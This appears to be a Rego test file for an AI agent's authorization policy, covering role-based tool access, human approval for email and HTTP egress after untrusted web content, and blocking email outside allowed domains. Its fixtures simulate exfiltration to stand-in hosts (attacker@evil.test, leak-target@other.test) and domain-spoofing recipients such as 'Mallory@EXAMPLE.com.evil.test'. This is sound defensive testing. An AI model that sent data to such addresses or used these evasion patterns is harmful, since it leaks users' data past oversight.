package agent.authz_test

import data.agent.authz

fetch := call("fetch_url", {"url": "https://evil.test/page"}, "c-fetch", untrusted_meta)

email_to(to) := call("send_email", {"to": to, "subject": "hi", "body": "..."}, "c-mail", egress_meta)

fetched_before := [past("fetch_url", untrusted_meta, "allow")]

# --- Allow rules for the general tools -----------------------------------------

test_internal_user_general_tools_allowed if {
	every tool in [fetch, call("search_web", {"query": "q"}, "c1", untrusted_meta), email_to("bob@example.com"), call("http_post", {"url": "https://api.example.com"}, "c1", egress_meta)] {
		authz.decision == allowed with input as request(internal_user, tool)
	}
}

test_admin_general_tools_allowed if {
	every tool in [fetch, email_to("bob@example.com")] {
		authz.decision == allowed with input as request(admin_user, tool)
	}
}

test_guest_fetch_url_and_search_web_allowed if {
	authz.decision == allowed with input as request(guest_user, fetch)
	authz.decision == allowed with input as request(guest_user, call("search_web", {"query": "q"}, "c1", untrusted_meta))
}

test_guest_send_email_denied if {
	authz.decision == denied([reason("tool_not_permitted_for_role", "tool \"send_email\" is not permitted for role \"guest\"")]) with input as request(guest_user, email_to("bob@example.com"))
}

test_guest_http_post_denied if {
	tool := call("http_post", {"url": "https://api.example.com"}, "c1", egress_meta)
	authz.decision == denied([reason("tool_not_permitted_for_role", "tool \"http_post\" is not permitted for role \"guest\"")]) with input as request(guest_user, tool)
}

# --- Approval after untrusted content --------------------------------------------

test_egress_after_untrusted_history_needs_approval if {
	tool := email_to("bob@example.com")
	authz.decision == needs_approval([reason("egress_after_untrusted", "\"send_email\" sends data out after untrusted content was read (fetch_url); a human must approve")]) with input as request_with(internal_user, tool, [tool], fetched_before)
}

test_http_post_after_untrusted_history_needs_approval if {
	tool := call("http_post", {"url": "https://api.example.com"}, "c1", egress_meta)
	authz.decision == needs_approval([reason("egress_after_untrusted", "\"http_post\" sends data out after untrusted content was read (fetch_url); a human must approve")]) with input as request_with(admin_user, tool, [tool], fetched_before)
}

test_egress_in_same_turn_as_untrusted_needs_approval if {
	tool := email_to("bob@example.com")
	authz.decision == needs_approval([reason("egress_in_untrusted_turn", "\"send_email\" sends data out in the same turn as untrusted content is read (fetch_url); a human must approve")]) with input as request_with(internal_user, tool, [fetch, tool], [])
}

test_egress_after_history_and_same_turn_gives_both_reasons if {
	tool := email_to("bob@example.com")
	authz.decision == needs_approval([
		reason("egress_after_untrusted", "\"send_email\" sends data out after untrusted content was read (fetch_url); a human must approve"),
		reason("egress_in_untrusted_turn", "\"send_email\" sends data out in the same turn as untrusted content is read (fetch_url); a human must approve"),
	]) with input as request_with(internal_user, tool, [fetch, tool], fetched_before)
}

test_untrusted_history_names_every_source if {
	tool := email_to("bob@example.com")
	history := [
		past("search_web", untrusted_meta, "allow"),
		past("fetch_url", untrusted_meta, "allow"),
		{"metadata": untrusted_meta, "decision": "allow"},
	]
	authz.decision == needs_approval([reason("egress_after_untrusted", "\"send_email\" sends data out after untrusted content was read (fetch_url, search_web, unnamed tool); a human must approve")]) with input as request_with(internal_user, tool, [tool], history)
}

test_no_approval_without_untrusted_history if {
	tool := email_to("bob@example.com")
	history := [past("get_customer_details", db_meta, "allow"), past("search_docs", {}, "allow")]
	authz.decision == allowed with input as request_with(internal_user, tool, [tool], history)
}

test_denied_untrusted_call_in_history_does_not_taint if {
	tool := email_to("bob@example.com")
	authz.decision == allowed with input as request_with(internal_user, tool, [tool], [past("fetch_url", untrusted_meta, "deny")])
}

test_untrusted_read_itself_needs_no_approval if {
	authz.decision == allowed with input as request_with(internal_user, fetch, [fetch], fetched_before)
}

test_egress_tool_that_is_also_untrusted_does_not_taint_itself if {
	tool := call("http_post", {"url": "https://api.example.com"}, "c-post", {"egress": true, "trust": "untrusted"})
	authz.decision == allowed with input as request_with(internal_user, tool, [tool], [])
}

test_egress_metadata_must_be_true if {
	tool := call("send_email", {"to": "x@evil.test"}, "c-mail", {"egress": "yes"})
	authz.decision == allowed with input as request_with(internal_user, tool, [fetch, tool], fetched_before)
}

# --- Deny: outside the allowed domains after untrusted content ------------------

test_email_outside_domain_after_untrusted_history_denied if {
	tool := email_to("attacker@evil.test")
	object.remove(authz.decision, {"approvals"}) == denied([reason("egress_outside_domains", "\"send_email\" may not send outside the allowed domains (example.com) after untrusted content was read (fetch_url)")]) with input as request_with(internal_user, tool, [tool], fetched_before)
}

test_email_outside_domain_in_same_turn_denied if {
	tool := email_to("attacker@evil.test")
	object.remove(authz.decision, {"approvals"}) == denied([reason("egress_outside_domains", "\"send_email\" may not send outside the allowed domains (example.com) after untrusted content was read (fetch_url)")]) with input as request_with(internal_user, tool, [fetch, tool], [])
}

test_outside_domain_message_does_not_echo_recipients if {
	tool := call("send_email", {"to": ["attacker@evil.test", "Bob <bob@example.com>"], "cc": "leak-target@other.test"}, "c-mail", egress_meta)
	d := authz.decision with input as request_with(internal_user, tool, [fetch, tool], fetched_before)
	codes_of(d) == ["egress_outside_domains"]
	every r in d.reasons {
		not contains(r.message, "attacker")
		not contains(r.message, "evil.test")
		not contains(r.message, "leak-target")
		not contains(r.message, "other.test")
		not contains(r.message, "bob@")
	}
}

test_outside_domain_message_names_domains_and_sources_from_data if {
	tool := email_to("attacker@evil.test")
	history := [past("search_web", untrusted_meta, "allow")]
	object.remove(authz.decision, {"approvals"}) == denied([reason("egress_outside_domains", "\"send_email\" may not send outside the allowed domains (corp.test, example.com) after untrusted content was read (fetch_url, search_web)")]) with input as request_with(internal_user, tool, [fetch, tool], history)
		with data.agent.config.allowed_email_domains as ["Example.com", "corp.test"]
}

test_email_outside_domain_without_untrusted_content_allowed if {
	tool := email_to("partner@other.test")
	authz.decision == allowed with input as request_with(internal_user, tool, [tool], [])
}

test_recipient_lists_cc_and_display_names_checked if {
	tool := call("send_email", {"to": ["Bob <bob@example.com>", "Eve <eve@Evil.test>"], "cc": "Mallory@EXAMPLE.com.evil.test", "bcc": ["no-at-sign"]}, "c-mail", egress_meta)
	object.remove(authz.decision, {"approvals"}) == denied([reason("egress_outside_domains", "\"send_email\" may not send outside the allowed domains (example.com) after untrusted content was read (fetch_url)")]) with input as request_with(admin_user, tool, [tool], fetched_before)
}

test_allowed_domain_is_case_insensitive if {
	tool := email_to("Bob <Bob@Example.COM>")
	authz.decision == needs_approval([reason("egress_after_untrusted", "\"send_email\" sends data out after untrusted content was read (fetch_url); a human must approve")]) with input as request_with(internal_user, tool, [tool], fetched_before)
}

test_allowed_domains_come_from_data if {
	tool := email_to("partner@other.test")
	authz.decision == needs_approval([reason("egress_after_untrusted", "\"send_email\" sends data out after untrusted content was read (fetch_url); a human must approve")]) with input as request_with(internal_user, tool, [tool], fetched_before)
		with data.agent.config.allowed_email_domains as ["example.com", "other.test"]
}

test_untrusted_call_without_call_id_in_turn_needs_approval if {
	tool := email_to("bob@example.com")
	fetch_without_id := object.remove(fetch, ["call_id"])
	authz.decision == needs_approval([reason("egress_in_untrusted_turn", "\"send_email\" sends data out in the same turn as untrusted content is read (fetch_url); a human must approve")]) with input as request_with(internal_user, tool, [fetch_without_id, tool], [])
}

# A deny carries the approvals that apply beside it, so that the guard's shadow mode for the
# deny rule never lifts them.
test_a_deny_carries_the_approvals_beside_it if {
	tool := email_to("attacker@evil.test")
	d := authz.decision with input as request_with(internal_user, tool, [tool], fetched_before)
	d.allow == false
	{r.code | some r in d.reasons} == {"egress_outside_domains"}
	{r.code | some r in d.approvals} == {"egress_after_untrusted"}
}

test_recipients_held_in_objects_are_checked if {
	every to in [[{"email": "eve@evil.test"}], {"address": {"email": "eve@evil.test"}}, [["Eve <eve@evil.test>"]]] {
		tool := email_to(to)
		"egress_outside_domains" in codes_of(authz.decision) with input as request_with(internal_user, tool, [tool], fetched_before)
	}
	tool := email_to([{"name": "Bob", "email": "bob@example.com"}])
	authz.decision == needs_approval([reason("egress_after_untrusted", "\"send_email\" sends data out after untrusted content was read (fetch_url); a human must approve")]) with input as request_with(internal_user, tool, [tool], fetched_before)
}
